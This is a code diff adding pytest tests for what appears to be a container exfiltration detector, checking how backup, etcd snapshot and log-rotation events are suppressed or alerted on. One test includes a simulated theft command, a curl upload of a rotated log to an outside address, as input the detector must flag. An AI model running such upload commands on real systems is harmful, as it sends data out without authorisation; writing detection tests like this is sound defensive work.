@@ -156,3 +156,60 @@ def test_suppressions_file(tmp_path: Path) -> None:
         load_suppressions(bad)
     with pytest.raises(SuppressionError, match="cannot read"):
         load_suppressions(tmp_path / "absent.yaml")
+
+
+def test_allowed_destinations_by_name_subdomain_and_cidr() -> None:
+    ctr = container()
+    events = [
+        launch(
+            "gzip /backup/db.sql",
+            time=1000,
+            ctr=ctr,
+            parent_cmd="/bin/sh -c pg_dump app > /backup/db.sql && gzip /backup/db.sql",
+        ),
+        launch("aws s3 cp /backup/db.sql.gz s3://corp-backups/db/", time=1010, ctr=ctr, pid=400),
+        connect("198.51.100.9", time=1011, ctr=ctr, sent=5_000_000, pid=400),  # the upload's own
+    ]
+    [lowered], _ = run(events)
+    assert lowered.severity_id == 4  # critical, lowered once: the bucket is not declared
+    delivered, [held] = run(events, allowed_destinations=("corp-backups",))
+    assert delivered == []
+    assert held.suppressed_by is not None
+    assert held.suppressed_by.startswith("benign profile database-dump")
+    other = [*events, connect("203.0.113.50", time=1012, ctr=ctr, sent=10, pid=401)]
+    [still], _ = run(other, allowed_destinations=("corp-backups",))
+    assert still.severity_id == 4  # another process's traffic left for an undeclared address
+    _, [held] = run(other, allowed_destinations=("corp-backups", "203.0.113.0/24"))
+    assert held.suppressed_by is not None
+
+
+def test_a_backup_tool_that_ran_just_before_covers_its_scripts_gzip() -> None:
+    ctr = container()
+    events = [
+        launch("etcdctl snapshot save /var/backups/snap.db", time=990, ctr=ctr, pid=50),
+        launch("gzip -f /var/backups/snap.db", time=1000, ctr=ctr, pid=51),
+        launch("aws s3 cp /var/backups/snap.db.gz s3://corp-etcd/", time=1005, ctr=ctr, pid=52),
+    ]
+    [finding], _ = run(events)
+    assert finding.severity_id == 3  # critical, lowered by two outside the allowed buckets
+    assert any("etcdctl ran just before in the same place" in r for r in finding.reasons)
+    assert run(events[1:])[0][0].severity_id == 5  # without it: nothing covers the gzip
+
+
+def test_log_rotation_followed_by_unrelated_traffic_is_held_but_not_an_upload_of_it() -> None:
+    ctr = container()
+    rotate = launch(
+        "gzip /var/log/app/app.log.1",
+        time=1000,
+        ctr=ctr,
+        parent_cmd="/usr/sbin/logrotate /etc/logrotate.conf",
+    )
+    ntp = connect("198.51.100.123", port=123, time=1030, ctr=ctr, sent=48)
+    delivered, [held] = run([rotate, ntp])
+    assert delivered == []
+    assert held.suppressed_by is not None
+    assert "log-rotation" in held.suppressed_by
+    stolen = launch("curl -T /var/log/app/app.log.1.gz https://203.0.113.8/u", time=1040, ctr=ctr)
+    [alert], held = run([rotate, stolen])
+    assert held == []
+    assert alert.severity_id == 5  # the uploader names the rotated log: no profile covers that
